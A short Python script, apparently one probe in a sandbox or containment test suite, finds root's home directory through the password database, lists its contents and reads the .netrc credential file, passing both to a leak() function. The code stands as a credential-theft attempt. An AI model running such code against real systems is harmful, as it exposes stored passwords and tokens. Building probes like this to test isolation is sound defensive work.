"""secrets: find the real home through the password database."""

import os
import pwd

from attacklib import *


def go():
    home = pwd.getpwuid(0).pw_dir
    leak(",".join(os.listdir(home)))
    leak(open(os.path.join(HOME, ".netrc")).read())


attempt("pwd home", go)
